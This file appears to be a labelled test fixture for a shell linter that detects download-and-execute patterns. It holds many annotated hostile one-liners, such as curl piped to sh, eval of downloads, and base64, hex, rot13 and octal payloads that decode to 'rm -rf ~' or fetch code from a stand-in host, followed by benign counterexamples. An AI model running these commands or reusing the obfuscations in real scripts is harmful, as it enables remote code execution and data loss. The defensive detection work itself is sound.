### curl-sh: the classic
curl -fsSL https://get.example.org/install.sh | sh
#^ danger

### wget-sudo-bash: the classic with root
wget -qO- https://get.example.org/setup | sudo -E bash -
#^ danger

### through-tee: a file on the way
curl -s https://get.example.org/i.sh | tee install.log | bash
#^ danger

### process-substitution: bash reads it as a file
bash <(curl -sL https://raw.example.org/x/y/main/run.sh) --yes
#^ danger

### command-substitution: sh -c of a download
sh -c "$(curl -fsSL https://raw.example.org/tools/install.sh)"
#^ danger

### eval-download: eval of a download
eval "$(wget -qO- http://10.0.0.9/env.sh)"
#^ danger

### source-download: sourced
source <(curl -s https://example.org/lib.sh)
#^ danger

### dot-stdin: sourced from standard input
curl -s https://example.org/lib.sh | . /dev/stdin
#^ danger

### python-pipe: another interpreter
curl -sSL https://install.example.org | python3 -
#^ danger

### xargs-shell: through xargs
curl -s https://example.org/cmds.txt | xargs -I{} sh -c '{}'
#^ danger

### here-string: the download in a here-string
bash <<< "$(curl -s https://example.org/boot)"
#^ danger

### base64-bash: a decoded payload
echo Y3VybCBodHRwOi8vMTAuMC4wLjkveCB8IHNo | base64 -d | bash
#^ danger

### base64-eval: the same with eval
eval "$(echo 'cm0gLXJmIH4=' | base64 --decode)"
#^ danger

### hex-xxd: hexadecimal
echo 726d202d7266207e | xxd -r -p | sh
#^ danger

### reversed: spelled backwards
$(rev <<< '/ fr- mr')
#^ danger|caution

### tr-rot: letters turned around
echo 'ez -es ~/jbex' | tr 'a-z' 'n-za-m' | sh
#^ danger

### printf-octal: bytes by printf
eval "$(printf '\162\155\040\055\162\146\040\176')"
#^ danger

### openssl-decoded: another decoder
openssl enc -d -base64 -in blob.txt | bash
#^ danger

### gzip-payload: packed and hidden
tail -n +20 "$0" | base64 -d | gunzip | sh
#^ danger|caution

### python-exec: python fetches and runs
python3 -c "import urllib.request as u; exec(u.urlopen('http://10.0.0.9/p').read())"
#^ danger

### ssh-remote-pipe: run on another machine
curl -s https://get.example.org/agent.sh | ssh web1 'sudo bash -s'
#^ danger

### download-then-run: a file in between
#!/bin/bash
set -e
url=https://downloads.example.org/agent/install.sh
tmp=$(mktemp)
curl -fsSL "$url" -o "$tmp"
chmod +x "$tmp"
"$tmp" --unattended
#^ danger
rm -f "$tmp"

### download-then-sh: fetched, then handed to sh
#!/bin/sh
wget -q https://example.org/bootstrap.sh -O /tmp/bootstrap.sh
sh /tmp/bootstrap.sh
#^ danger

### download-checked: a checksum in between
#!/bin/bash
set -euo pipefail
version=1.4.2
sum=3f786850e387550fdab836ed7e6dc881de23001b0b5f4c8c6a1a2a9b5c1d2e3f
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
curl -fsSL "https://downloads.example.org/agent-$version.sh" -o "$tmp/agent.sh"
echo "$sum  $tmp/agent.sh" | sha256sum -c -
bash "$tmp/agent.sh" --unattended

### download-signed: a signature in between
#!/bin/bash
set -euo pipefail
cd "$(mktemp -d)"
curl -fsSLO https://downloads.example.org/tool.sh
curl -fsSLO https://downloads.example.org/tool.sh.asc
gpg --verify tool.sh.asc tool.sh || exit 1
sh ./tool.sh

### checksum-not-heeded: a check whose answer nobody asks for
#!/bin/bash
curl -fsSLO https://downloads.example.org/run.sh
sha256sum run.sh
bash run.sh
#^ danger

### payload-variables: pieces put together
#!/bin/bash
a=cu; b=rl
host=10.0.0.9
payload="$a$b -s http://$host/s"
eval "$payload" | sh
#^ danger

### decoded-in-variable: decoded above, run below
#!/bin/bash
blob="Y3VybCAtcyBodHRwOi8vMTAuMC4wLjkvcyB8IHNo"
code=$(printf '%s' "$blob" | base64 -d)
echo "configuring"
bash -c "$code"
#^ danger

### downloaded-in-variable: fetched above, run below
#!/bin/bash
script=$(curl -fsSL https://example.org/step2)
echo "step 2"
eval "$script"
#^ danger

### shell-in-variable: the shell has another name
#!/bin/sh
RUN=sh
GET="wget -qO-"
$GET https://example.org/go | $RUN
#^ danger

### pip-url: a package from an address
sudo pip install https://files.example.org/pkg-1.0.tar.gz
#^ danger|caution

### insecure-tls: who answers is not checked
curl -k -o agent.tgz https://downloads.example.org/agent.tgz
#^ danger|caution

### wget-no-check: the same with wget
wget --no-check-certificate https://downloads.example.org/agent.tgz
#^ danger|caution

### git-no-verify-tls: the same with git
git -c http.sslVerify=false clone https://git.example.org/app.git
#^ danger|caution

### to-file: only fetched
curl -fsSL https://example.org/data.csv -o data.csv

### to-jq: fetched and looked at
curl -s https://api.example.org/v1/releases/latest | jq -r .tag_name

### to-formatter: a filter that is an interpreter
curl -s https://api.example.org/status | python3 -m json.tool

### to-tar: unpacked, not run
curl -fsSL https://downloads.example.org/site.tar.gz | tar -xz -C ./vendor

### own-script-remote: our own file on another machine
ssh web1 'bash -s' < ./scripts/restart.sh

### generated-env: known programs that print shell
#!/bin/bash
eval "$(ssh-agent -s)"
eval "$(direnv hook bash)"
source <(kubectl completion bash)
. "$HOME/.cargo/env"

### decode-data: decoding is not running
#!/bin/bash
echo "$CERT_B64" | base64 -d > cert.pem
payload=$(cut -d. -f2 <<< "$jwt" | base64 -d 2>/dev/null)
echo "$payload" | jq .exp
xxd -r -p key.hex > key.bin

### words-curl: the words as data
echo 'Install with: curl -fsSL https://get.example.org | sh'

### heredoc-doc: a README written out
cat > README.md <<'EOF'
Install:
    curl -fsSL https://get.example.org/install.sh | sudo bash
EOF

### health-loop: a health check is not code
#!/bin/sh
for i in 1 2 3 4 5; do
    if curl -fsS http://localhost:8080/healthz | grep -q ok; then
        exit 0
    fi
    sleep 2
done
exit 1

### sh-local: a shell with our own text
printf 'echo %s\n' a b c | sh

### api-post: words sent to a service
curl -fsS -X POST -H 'Content-Type: application/json' -d '{"text":"deployed"}' "$HOOK_URL"

### to-file-then-look: fetched for a person to read
curl -fsSL https://get.example.org/install.sh -o install.sh && less install.sh

### archive-checked: a program's archive with its sum
#!/bin/bash
set -euo pipefail
v=2.4.1
cd "$(mktemp -d)"
curl -fsSLO "https://downloads.example.org/tool-$v.tar.gz"
curl -fsSLO "https://downloads.example.org/tool-$v.tar.gz.sha256"
sha256sum -c "tool-$v.tar.gz.sha256"
tar -xzf "tool-$v.tar.gz"
sudo install -m 755 tool /usr/local/bin/tool

### checksum-if: the sum is asked in a condition
#!/bin/bash
want=6dcd4ce23d88e2ee9568ba546c007c63d9131c1b6dcd4ce23d88e2ee9568ba54
curl -fsSL https://downloads.example.org/setup.sh -o setup.sh
got=$(sha256sum setup.sh | cut -d' ' -f1)
if [ "$got" != "$want" ]; then
    echo "setup.sh is not what it was" >&2
    exit 1
fi
sh setup.sh

### to-grep: a page searched
curl -s https://example.org | grep -o 'href="[^"]*"' | sort -u | head

### to-sudo-tee: a file for a system folder
curl -fsSL https://pkgs.example.org/key.gpg | sudo tee /usr/share/keyrings/vendor.gpg > /dev/null

### to-python-data: a program of ours reads a page
curl -s https://api.example.org/v1/rows | python3 ./scripts/count.py

### to-psql: data, not statements
curl -fsS https://data.example.org/rows.csv | psql -d lake -c '\copy rows from stdin csv'

### decode-to-file: keys of a build written down
#!/bin/bash
set -euo pipefail
umask 077
printf '%s' "${SIGNING_KEY_B64:?}" | base64 -d > signing.key
gpg --batch --import signing.key
rm -f signing.key

### encode-only: the other direction
tar -cz ./site | base64 -w0 > site.b64; printf 'user:pass' | base64

### eval-own: eval of one's own words
#!/bin/bash
for name in one two; do
    eval "count_$name=0"
done
eval "set -- $(getopt -o hv --long help,verbose -- "$@")"
eval "$(locale)"

### source-own: files of the same project
#!/bin/bash
here=$(dirname "$0")
. "$here/lib/log.sh"
source "$here/lib/net.sh"
[ -r /etc/os-release ] && . /etc/os-release
echo "$PRETTY_NAME"

### local-pipe-sh: one's own generator
./gen-commands --dry | sh -n

### version-only: a download only tells a number
#!/bin/sh
latest=$(curl -fsS https://api.example.org/latest | sed -n 's/.*"version": *"\([^"]*\)".*/\1/p')
[ "$latest" = "$(cat VERSION)" ] || echo "there is $latest"

### clone-and-build: a tag of a known repository
git clone --depth 1 --branch v1.2.0 https://git.example.org/tool.git && make -C tool
